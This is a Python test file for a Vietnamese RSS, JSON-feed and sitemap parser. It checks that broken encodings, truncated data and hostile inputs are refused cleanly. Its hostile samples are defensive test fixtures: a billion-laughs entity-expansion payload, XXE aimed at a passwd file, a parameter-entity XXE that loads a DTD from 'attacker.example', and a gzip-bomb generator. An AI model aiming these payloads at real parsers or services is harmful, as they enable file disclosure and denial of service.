"""Hostile and broken input: each must end in a clear FeedError or a sane result."""

from __future__ import annotations

import gzip
import io
import time
import tracemalloc
import unicodedata
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import feedparser
import pytest

from diemtin.feeds import FeedError, parse_feed, parse_sitemap
from diemtin.model import IngestError

URL = "https://baomau.example.vn/rss/home.rss"
Load = Callable[[str], bytes]

VIETNAMESE = "Hội nghị thượng đỉnh bàn về biến đổi khí hậu và đường sắt tốc độ cao"


def _rss(title: str, declared: str) -> str:
    return (
        f'<?xml version="1.0" encoding="{declared}"?>\n'
        '<rss version="2.0"><channel><title>Báo Mẫu</title>'
        "<link>https://baomau.example.vn/</link>"
        f"<item><title>{title}</title>"
        "<link>https://baomau.example.vn/tin-123456.html</link>"
        f"<description>{title}.</description></item>"
        "</channel></rss>"
    )


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"   \n\t ",
        b"\x00\x01\x02\xff\xfe garbage \x9c\x88",
        b"just some words, no markup at all",
        b"<html><body><p>Trang web, kh\xc3\xb4ng ph\xe1\xba\xa3i feed</p></body></html>",
        b'<?xml version="1.0"?><note><to>ai</to></note>',
        b"<rss><channel><title>",
        b"<rss><channel><item><title>cut",
    ],
    ids=["empty", "whitespace", "binary", "text", "html", "other-xml", "only-opening", "cut-item"],
)
def test_not_a_feed_is_malformed(data: bytes) -> None:
    with pytest.raises(FeedError) as info:
        parse_feed(data, URL)
    assert info.value.kind == "malformed_feed"
    assert isinstance(info.value, IngestError)


def test_truncated_feed_keeps_complete_items(load: Load) -> None:
    data = load("tuoitre.rss")
    # cut inside the third item's link: the first two items are complete
    cut = data.index(b"/doi-tuyen-bong-da-nu") + 10
    feed = parse_feed(data[:cut], "https://tuoitre.vn/rss/the-gioi.rss")
    assert [e.title for e in feed.entries] == [
        "Hội nghị khí hậu khai mạc với nhiều cam kết mới",
        "Giá cà phê xuất khẩu tăng mạnh trong quý ba",
    ]
    # cut inside the second item's link: its half URL must not come out
    cut = data.index(b"gia-ca-phe-xuat-khau") + 12
    feed = parse_feed(data[:cut], "https://tuoitre.vn/rss/the-gioi.rss")
    assert len(feed.entries) == 1


def test_utf8_declared_as_latin1() -> None:
    data = _rss(VIETNAMESE, "ISO-8859-1").encode("utf-8")
    feed = parse_feed(data, URL)
    assert feed.entries[0].title == VIETNAMESE
    # the same when the HTTP header is the one that lies
    data = _rss(VIETNAMESE, "utf-8").encode("utf-8")
    feed = parse_feed(data, URL, content_type="text/xml; charset=iso-8859-1")
    assert feed.entries[0].title == VIETNAMESE


def test_windows_1258_declared() -> None:
    # windows-1258 spells most tones as combining marks: output must be NFC
    data = _cp1258(_rss(VIETNAMESE, "windows-1258"))
    assert data.decode("cp1258") != unicodedata.normalize("NFC", data.decode("cp1258"))
    feed = parse_feed(data, URL)
    assert feed.entries[0].title == VIETNAMESE
    assert feed.entries[0].summary == VIETNAMESE + "."


def test_windows_1258_declared_as_utf8() -> None:
    data = _cp1258(_rss(VIETNAMESE, "UTF-8"))
    assert parse_feed(data, URL).entries[0].title == VIETNAMESE


@pytest.mark.parametrize("misread_as", ["latin-1", "cp1252"])
def test_double_encoded_utf8_is_repaired(misread_as: str) -> None:
    # UTF-8 once decoded as a one-byte charset and saved as UTF-8 again; like
    # Windows, cp1252's undefined bytes pass through as C1 controls
    raw = _rss(VIETNAMESE, "utf-8").encode("utf-8")
    mojibake = "".join(bytes([b]).decode(misread_as, errors="ignore") or chr(b) for b in raw)
    assert "Há»" in mojibake
    feed = parse_feed(mojibake.encode("utf-8"), URL)
    assert feed.title == "Báo Mẫu"
    assert feed.entries[0].title == VIETNAMESE


_TONES = "\u0300\u0301\u0303\u0309\u0323"  # huyền, sắc, ngã, hỏi, nặng


def _cp1258(text: str) -> bytes:
    """Text as windows-1258 writes it: base letters precomposed, tones combining."""
    out = bytearray()
    for char in text:
        try:
            out += char.encode("cp1258")
        except UnicodeEncodeError:
            marks = unicodedata.normalize("NFD", char)
            tones = "".join(m for m in marks if m in _TONES)
            base = "".join(m for m in marks if m not in _TONES)
            out += (unicodedata.normalize("NFC", base) + tones).encode("cp1258")
    return bytes(out)


def _measure_refusal(call: Callable[[], Any]) -> tuple[str, float, int]:
    """The error kind ``call`` raises, the seconds it took and its peak allocation."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(FeedError) as info:
            call()
    finally:
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return info.value.kind, elapsed, peak


@pytest.mark.timeout(10)
def test_billion_laughs_refused_fast_with_bounded_memory(load: Load) -> None:
    data = load("billion-laughs.xml")
    kind, elapsed, peak = _measure_refusal(lambda: parse_feed(data, URL))
    assert kind == "entity_expansion"
    assert elapsed < 1.0
    assert peak < 1_000_000


def test_billion_laughs_in_utf16_refused(load: Load) -> None:
    data = load("billion-laughs.xml").decode("utf-8").encode("utf-16")
    with pytest.raises(FeedError) as info:
        parse_feed(data, URL)
    assert info.value.kind == "entity_expansion"


def test_billion_laughs_sitemap_refused() -> None:
    data = (
        b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        b"<url><loc>https://baomau.example.vn/&b;-123456.html</loc></url></urlset>"
    )
    with pytest.raises(FeedError) as info:
        parse_sitemap(data, "https://baomau.example.vn/sitemap.xml")
    assert info.value.kind == "entity_expansion"


def test_xxe_never_reads_the_file(load: Load, monkeypatch: pytest.MonkeyPatch) -> None:
    opened: list[str] = []
    real_open = open

    def spy(file: Any, *args: Any, **kwargs: Any) -> Any:
        opened.append(str(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr("builtins.open", spy)
    with pytest.raises(FeedError) as info:
        parse_feed(load("xxe.xml"), URL)
    assert info.value.kind == "entity_expansion"
    assert "root:" not in str(info.value)
    assert not [f for f in opened if "passwd" in f]


def test_parameter_entity_xxe_refused() -> None:
    data = (
        b'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY % ext SYSTEM '
        b'"http://attacker.example/evil.dtd"> %ext;]>\n'
        b"<rss version='2.0'><channel><title>x</title></channel></rss>"
    )
    with pytest.raises(FeedError) as info:
        parse_feed(data, URL)
    assert info.value.kind == "entity_expansion"


def test_bytes_that_name_a_file_are_not_opened(load: Load, tmp_path: Path) -> None:
    # feedparser.parse(bytes) tries open(bytes) first; we must not let it
    path = tmp_path / "feed.rss"
    path.write_bytes(load("tuoitre.rss"))
    with pytest.raises(FeedError):
        parse_feed(str(path).encode(), URL)


def test_feedparser_only_ever_gets_a_stream(load: Load, monkeypatch: pytest.MonkeyPatch) -> None:
    real_parse = feedparser.parse
    seen: list[type] = []

    def spy(source: Any, *args: Any, **kwargs: Any) -> Any:
        seen.append(type(source))
        return real_parse(source, *args, **kwargs)

    monkeypatch.setattr(feedparser, "parse", spy)
    parse_feed(load("tuoitre.rss"), "https://tuoitre.vn/rss/the-gioi.rss")
    assert seen == [io.BytesIO]


def _gzip_bomb(inflated: int) -> bytes:
    """A gzip stream of ``inflated`` zero bytes, built without holding them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b"\0" * (1 << 20)
    parts = [packer.compress(chunk) for _ in range(inflated >> 20)]
    parts.append(packer.flush())
    return b"".join(parts)


@pytest.mark.timeout(30)
def test_gzip_bomb_sitemap_is_refused() -> None:
    bomb = _gzip_bomb(64 << 20)  # 64 MiB of zeros in ~64 KiB
    assert len(bomb) < 200_000
    with pytest.raises(FeedError) as info:
        parse_sitemap(bomb, "https://baomau.example.vn/sitemap.xml.gz")
    assert info.value.kind == "too_large"


def test_gzip_bomb_memory_is_bounded_by_the_cap() -> None:
    bomb = _gzip_bomb(16 << 20)
    kind, _, peak = _measure_refusal(
        lambda: parse_sitemap(bomb, "https://x.vn/s.gz", max_inflated=1 << 20)
    )
    assert kind == "too_large"
    assert peak < 4 << 20


def test_broken_gzip_is_malformed() -> None:
    with pytest.raises(FeedError) as info:
        parse_sitemap(b"\x1f\x8b\x08\x00garbage-not-deflate", "https://x.vn/s.gz")
    assert info.value.kind == "malformed_feed"


def test_gzipped_feed_is_accepted(load: Load) -> None:
    feed = parse_feed(gzip.compress(load("tuoitre.rss")), "https://tuoitre.vn/rss/x.rss")
    assert len(feed.entries) == 3


def test_json_feed_with_wrong_types_keeps_what_is_usable(load: Load) -> None:
    feed = parse_feed(load("wrong-types.json"), "https://baomau.example.vn/feed.json")
    assert feed.title == ""
    assert feed.link == "https://baomau.example.vn/feed.json"
    (entry,) = feed.entries
    assert entry.url == "https://baomau.example.vn/bai-hop-le-345678.html"
    assert entry.guid is None
    assert entry.title == ""
    assert entry.summary == "Nội dung thuần văn bản."
    assert entry.published_at is None and entry.image is None
    assert entry.author == "" and entry.tags == ()


@pytest.mark.parametrize(
    "data",
    [
        b"[1, 2, 3]",
        b'{"version": "https://jsonfeed.org/version/1.1", "items": {"a": 1}}',
        b'{"version": 1.1, "items": []}',
        b'{"title": "no version", "items": []}',
        b'{"version": "https://jsonfeed.org/version/1", "items": [',
        b"{" * 100_000,
    ],
    ids=["array", "items-object", "version-number", "no-version", "truncated", "deep"],
)
def test_broken_json_feed_is_malformed(data: bytes) -> None:
    with pytest.raises(FeedError) as info:
        parse_feed(data, URL, content_type="application/feed+json")
    assert info.value.kind == "malformed_feed"


def test_entries_without_usable_links_are_skipped(load: Load) -> None:
    feed = parse_feed(load("no-links.rss"), URL)
    assert [e.title for e in feed.entries] == ["Mục hợp lệ duy nhất"]


def test_undeclared_html_entity_still_parses() -> None:
    # strict XML fails on &nbsp;, feedparser's loose parser keeps the items
    data = _rss("Giá&nbsp;vàng &amp; đô la", "utf-8").encode("utf-8")
    feed = parse_feed(data, URL)
    assert feed.entries[0].title == "Giá vàng & đô la"
